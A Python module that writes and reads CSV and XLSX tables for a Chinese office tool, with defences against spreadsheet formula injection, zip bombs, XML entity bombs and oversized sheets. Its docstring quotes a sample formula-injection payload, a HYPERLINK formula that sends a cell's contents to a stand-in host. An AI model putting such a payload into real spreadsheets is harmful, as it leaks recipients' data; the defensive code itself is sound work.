"""Tables a department opens as is: CSV in UTF-8 with a BOM (so Excel reads the Chinese), and
XLSX with a frozen header row, sensible column widths, wrapped text and optional cell fills —
and printed as offices print them: A4, portrait or landscape as the table's width needs, one
page wide, the header row on every page, the title and 文号 at the top, 第X页 共Y页 at the foot.
Reading: the rows of a CSV file or of an XLSX workbook's first sheet, each with its row number,
streamed and bounded — the one reader of every sheet a person hands in.

Every CSV and XLSX the tool writes goes through here, and no cell can become a formula: names,
notes and units come from people outside the department (a provider called
``=HYPERLINK("http://x/?"&A1,"点击")``). CSV text cells starting with = + - @, tab or CR get a
leading ``'`` (the usual defence: Excel shows the text and runs nothing); XLSX text cells are
stored as text, never as formulas, and keep their value unchanged."""

from __future__ import annotations

import csv
import io
import unicodedata
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import ParseError as ElementTreeParseError

from checklist.errors import InputFileError, InvalidFileError, Problem
from checklist.files import atomic
from checklist.files.loader import read_text
from checklist.i18n import _, language

MAX_WIDTH = 60  # characters; longer cells wrap
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheet programs read as the start of a formula


@dataclass
class Sheet:
    title: str
    header: Sequence[str]
    rows: Sequence[Sequence[Any]]
    fills: Mapping[tuple[int, int], str] = field(default_factory=dict)  # (row, column) in ``rows``, 0-based -> "#RRGGBB"
    heading: str = ""  # printed at the top of every page [default: the sheet's title]
    doc_no: str = ""  # the 文号 the table belongs to, printed at the top right
    footnote: str = ""  # printed at the foot of every page, left (e.g. the register log's head)


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell that a spreadsheet shows and never evaluates."""
    if value is None:
        return ""
    if isinstance(value, Decimal):  # an exact amount: plain digits, never 3.7E+2
        return f"{value:f}"
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Sequence[Sequence[Any]], *, notes: Sequence[str] = ()) -> str:
    """CSV with a BOM; ``notes`` are '#' lines before the header, one cell each (quoted only when
    a value in them holds a comma, quote or line break, so it can never spill into other cells)."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerows([csv_cell(note)] for note in notes)
    w.writerow([csv_cell(v) for v in header])
    w.writerows([csv_cell(v) for v in row] for row in rows)
    return "\ufeff" + buf.getvalue()


def write_csv(path: Path, header: Sequence[str], rows: Sequence[Sequence[Any]]) -> None:
    atomic.write_text(path, csv_text(header, rows))


def write_xlsx(path: Path, sheets: Sequence[Sheet]) -> None:
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    book = Workbook()
    book.remove(book.active)
    wrap = Alignment(wrap_text=True, vertical="top")
    head_font, head_fill = Font(bold=True), PatternFill("solid", fgColor="E6E9EE")
    for sheet in sheets:
        ws = book.create_sheet(_sheet_title(sheet.title))
        ws.append(list(sheet.header))
        for row in sheet.rows:
            ws.append(["" if v is None else v for v in row])
        for line in ws.iter_rows():
            for cell in line:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # openpyxl takes a string starting with '=' for a formula
        for cell in ws[1]:
            cell.font, cell.fill, cell.alignment = head_font, head_fill, wrap
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                cell.alignment = wrap
        for (r, c), rgb in sheet.fills.items():
            ws.cell(row=r + 2, column=c + 1).fill = PatternFill("solid", fgColor="FF" + rgb.lstrip("#").upper())
        ws.freeze_panes = "A2"
        widths = _fitted(
            [
                (
                    display_width(title) + 2,
                    min(MAX_WIDTH, max(display_width(c) for c in [title, *(r[i] for r in sheet.rows if i < len(r))]) + 2),
                )
                for i, title in enumerate(sheet.header)
            ]
        )
        for i, width in enumerate(widths, 1):
            ws.column_dimensions[get_column_letter(i)].width = width
        if sheet.rows:
            ws.auto_filter.ref = ws.dimensions
        _print_setup(ws, sheet, sum(widths))
    buf = io.BytesIO()
    book.save(buf)
    atomic.write_bytes(path, buf.getvalue())


# How many character widths fit across an A4 page at 100% (Calibri 11, narrow margins): a wider
# table prints landscape; either way it is scaled to one page wide, so the widest tables get
# narrower columns (their text wraps) rather than print too small to read.
PORTRAIT_WIDTH = 95
LANDSCAPE_WIDTH = 140
READABLE_WIDTH = 180  # scaled to one landscape page, a table this wide still prints at about 80%


def _fitted(columns: list[tuple[int, int]]) -> list[int]:
    """Column widths (each between its header's width, at most 20, and its widest cell's) that
    add up to READABLE_WIDTH at most, taken from the widest columns first."""
    widths = [w for _, w in columns]
    floors = [min(h, 20, w) for h, w in columns]
    while sum(widths) > READABLE_WIDTH:
        widest = max(range(len(widths)), key=lambda i: widths[i] - floors[i])
        if widths[widest] <= floors[widest]:
            break
        widths[widest] -= 1
    return widths


def _print_setup(ws: Any, sheet: Sheet, width: int) -> None:
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.orientation = ws.ORIENTATION_LANDSCAPE if width > PORTRAIT_WIDTH else ws.ORIENTATION_PORTRAIT
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToWidth, ws.page_setup.fitToHeight = 1, 0  # one page wide, as many pages down as it takes
    ws.print_title_rows = "1:1"  # the header row on every page
    ws.print_options.horizontalCentered = True
    ws.page_margins.left = ws.page_margins.right = 0.4
    ws.page_margins.top = ws.page_margins.bottom = 0.75
    ws.oddHeader.center.text = _header_text(sheet.heading or sheet.title)
    ws.oddHeader.center.size = 12
    if sheet.doc_no:
        ws.oddHeader.right.text = _header_text(sheet.doc_no)
    ws.oddFooter.center.text = "第 &P 页 共 &N 页"
    if sheet.footnote:
        ws.oddFooter.left.text = _header_text(sheet.footnote)
        ws.oddFooter.left.size = 7
    ws.evenHeader, ws.evenFooter = ws.oddHeader, ws.oddFooter


def _header_text(text: str) -> str:
    """Text for a page header: '&' starts a header code in Excel, so it is doubled."""
    return text.replace("&", "&&")


def display_width(value: Any) -> int:
    """Width in Excel's character units: CJK characters take two."""
    text = "" if value is None else str(value)
    longest = max(text.split("\n"), key=len) if text else ""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in longest)


def _sheet_title(title: str) -> str:
    """Excel's limits: 31 characters, none of []:*?/\\."""
    cleaned = "".join("_" if ch in "[]:*?/\\" else ch for ch in title)
    return cleaned[:31] or "Sheet"


# What one sheet a person hands in may hold; past these, it is refused before it is read further.
# A cell at XFD1048576 in a 5 KB file would otherwise make a million rows of 16,384 columns.
MAX_ROWS = 100_000
MAX_COLUMNS = 256  # Excel 2003's last column, IV; no facts or risk-point sheet comes near it
MAX_CELLS = 500_000  # cells actually written (empty ones between them are not counted)
MAX_UNPACKED = 32 * 1024 * 1024  # bytes of an XLSX workbook's parts once unzipped, all together
MAX_PARTS = 1_000  # files inside an XLSX workbook


@dataclass(frozen=True)
class Unreadable:
    """An XLSX cell with no value to read, when formulas are refused: a formula or an error (#DIV/0!)."""

    why: str


def read_table(path: Path, *, refuse_formulas: bool = False) -> tuple[str, list[tuple[int, list[Any]]]]:
    """A CSV file's rows, or an XLSX workbook's first sheet's, each with its 1-based row number;
    and how to name the place in messages: ``file`` or ``file[sheet]``. (XLSX rows no cell is
    written in are left out, and a row ends at its last written cell.) Read streamed and bounded (``MAX_ROWS``, ``MAX_COLUMNS``, ``MAX_CELLS``,
    ``MAX_UNPACKED``): a sheet past a bound is refused at the place it crosses it.

    ``refuse_formulas``: an XLSX formula or error cell is read as ``Unreadable`` (its cached result
    may be stale or absent), to be refused by the caller at its place; else as the cached value."""
    suffix = path.suffix.lower()
    if suffix == ".csv":
        text, _encoding = read_text(path)
        return str(path), csv_rows(text, str(path))
    if suffix != ".xlsx":
        raise InputFileError(_("a table must be a .csv or .xlsx file"), path=str(path))
    return _xlsx_rows(path, not refuse_formulas)


def csv_rows(text: str, where: str) -> list[tuple[int, list[str]]]:
    """The rows of CSV ``text`` with the line each starts on, bounded like every sheet."""
    if text.count(",") > MAX_CELLS:  # before any row is built: one line of commas is a million cells
        _too_far(where, 1, 1, _("more than {cells} cells").format(cells=f"{MAX_CELLS:,}"))
    reader = csv.reader(io.StringIO(text))
    rows: list[tuple[int, list[str]]] = []
    cells = 0
    try:
        for row in reader:
            line = reader.line_num - row_lines(row) + 1
            if len(row) > MAX_COLUMNS:
                what = _("{count} cells in a row, more than the {columns} columns").format(count=f"{len(row):,}", columns=MAX_COLUMNS)
                _too_far(where, line, MAX_COLUMNS + 1, what)
            cells += len(row)
            if len(rows) >= MAX_ROWS or cells > MAX_CELLS:
                _too_far(where, line, 1, _("more than {rows} rows or {cells} cells").format(rows=f"{MAX_ROWS:,}", cells=f"{MAX_CELLS:,}"))
            rows.append((reader.line_num, row))
    except csv.Error as e:
        raise InputFileError(_("not readable as CSV: {reason}").format(reason=e), path=where, line=reader.line_num) from e
    return rows


def row_lines(row: list[str]) -> int:
    """Lines a CSV record spans (a quoted cell may hold line breaks)."""
    return 1 + sum(cell.count("\n") for cell in row)


def _too_far(where: str, line: int, column: int, what: str) -> None:
    message = _("{what} a sheet may have: refused (split it, or remove what is beyond)").format(what=what)
    raise InvalidFileError([Problem(where, line, column, message, "sheet-bounds")])


def _xlsx_rows(path: Path, formulas: bool) -> tuple[str, list[tuple[int, list[Any]]]]:
    import openpyxl
    from defusedxml import DefusedXmlException
    from openpyxl.utils.exceptions import InvalidFileException

    if not openpyxl.DEFUSEDXML:  # OPENPYXL_DEFUSEDXML=False would let entity bombs through
        raise InputFileError(_("XLSX files are read only with defusedxml active: unset OPENPYXL_DEFUSEDXML"), path=str(path))
    try:
        with path.open("rb") as f:  # closed even when openpyxl fails half way through the archive
            _check_parts(path, f)
            book = openpyxl.load_workbook(f, read_only=True, data_only=formulas)
            try:
                sheet = book.worksheets[0]
                where = f"{path}[{sheet.title}]"
                return where, list(_sheet_rows(book, sheet, where, formulas))  # parsed here, while the archive is open
            finally:
                book.close()
    except FileNotFoundError as e:
        raise InputFileError(_("no such file"), path=str(path)) from e
    except PermissionError as e:
        raise InputFileError(_("permission denied"), path=str(path)) from e
    except (InvalidFileException, zipfile.BadZipFile, ElementTreeParseError, OSError, KeyError, ValueError, IndexError) as e:
        cause: BaseException | None = e
        while cause is not None and not isinstance(cause, DefusedXmlException):
            cause = cause.__cause__ or cause.__context__  # openpyxl wraps it in a ValueError
        if cause is not None:
            raise InputFileError(
                _(
                    "refused: the workbook's XML declares entities ({kind}), as an XML entity-expansion bomb "
                    "does; spreadsheet programs never write them: save the sheet again from one"
                ).format(kind=type(cause).__name__),
                path=str(path),
            ) from e
        raise InputFileError(_("not a readable XLSX workbook ({kind})").format(kind=type(e).__name__), path=str(path)) from e


def _check_parts(path: Path, f: Any) -> None:
    """Refuse a workbook whose parts unzip to more than ``MAX_UNPACKED`` bytes (a zip bomb) before
    any of it is unzipped: zipfile never reads past the sizes the archive declares."""
    with zipfile.ZipFile(f) as archive:
        parts = archive.infolist()
        unpacked = sum(p.file_size for p in parts)
    f.seek(0)
    if len(parts) > MAX_PARTS or unpacked > MAX_UNPACKED:
        raise InputFileError(
            _(
                "the workbook unzips to {bytes} bytes in {parts} parts; more than {most_bytes} bytes or {most_parts} parts is refused"
            ).format(bytes=f"{unpacked:,}", parts=f"{len(parts):,}", most_bytes=f"{MAX_UNPACKED:,}", most_parts=f"{MAX_PARTS:,}"),
            path=str(path),
        )


def _sheet_rows(book: Any, sheet: Any, where: str, formulas: bool) -> Iterator[tuple[int, list[Any]]]:
    """The sheet's written rows, one cell at a time off the unzipped XML (never a row or column that
    is not written, never the whole sheet in memory): each cell is converted by openpyxl's own cell
    parser, then dropped from the tree."""
    from defusedxml.ElementTree import iterparse
    from openpyxl.worksheet._reader import WorkSheetParser
    from openpyxl.xml.constants import SHEET_MAIN_NS

    row_tag, cell_tag = f"{{{SHEET_MAIN_NS}}}row", f"{{{SHEET_MAIN_NS}}}c"
    cells = 0
    with book._archive.open(sheet._worksheet_path) as src:
        parser = WorkSheetParser(
            src,
            sheet._shared_strings,
            data_only=formulas,
            epoch=book.epoch,
            date_formats=book._date_formats,
            timedelta_formats=book._timedelta_formats,
        )
        row: dict[int, Any] = {}
        for event, element in iterparse(src, events=("start", "end"), forbid_dtd=True):
            if element.tag == row_tag and event == "start":
                number = element.get("r")
                parser.row_counter = int(number) if number and number.isdigit() else parser.row_counter + 1
                parser.col_counter = 0
                if parser.row_counter > MAX_ROWS:
                    what = _("row {row} is beyond the {rows} rows").format(row=f"{parser.row_counter:,}", rows=f"{MAX_ROWS:,}")
                    _too_far(where, parser.row_counter, 1, what)
            elif element.tag == cell_tag and event == "end":
                try:
                    cell = parser.parse_cell(element)
                except ValueError as e:  # a number written NaN: stops the reading at its row
                    reason = e if language() == "en" else _("a value that is not a number, a date or text")
                    message = _("a cell of this row cannot be read: {reason}").format(reason=reason)
                    problem = Problem(where, parser.row_counter, 1, message, "sheet")
                    raise InvalidFileError([problem]) from e
                element.clear()
                cells += 1
                if cell["row"] > MAX_ROWS or cell["column"] > MAX_COLUMNS or cells > MAX_CELLS:
                    column = cell["column"]
                    what = (
                        _("row {row} is beyond the {rows} rows").format(row=f"{cell['row']:,}", rows=f"{MAX_ROWS:,}")
                        if cell["row"] > MAX_ROWS
                        else _("column {column} is beyond the {columns} columns").format(column=f"{column:,}", columns=MAX_COLUMNS)
                        if column > MAX_COLUMNS
                        else _("more than {cells} cells").format(cells=f"{MAX_CELLS:,}")
                    )
                    _too_far(where, cell["row"], min(column, MAX_COLUMNS + 1), what)
                row[cell["column"]] = _value(cell, formulas)
            elif element.tag == row_tag and event == "end":
                if row:
                    yield parser.row_counter, [row.get(c) for c in range(1, max(row) + 1)]
                row = {}
                element.clear()


def _value(cell: dict, formulas: bool) -> Any:
    if not formulas and cell["data_type"] == "f":
        return Unreadable(_("formula {formula}: type the value itself").format(formula=cell["value"]))
    if not formulas and cell["data_type"] == "e":
        return Unreadable(_("error value {value}").format(value=cell["value"]))
    return cell["value"]
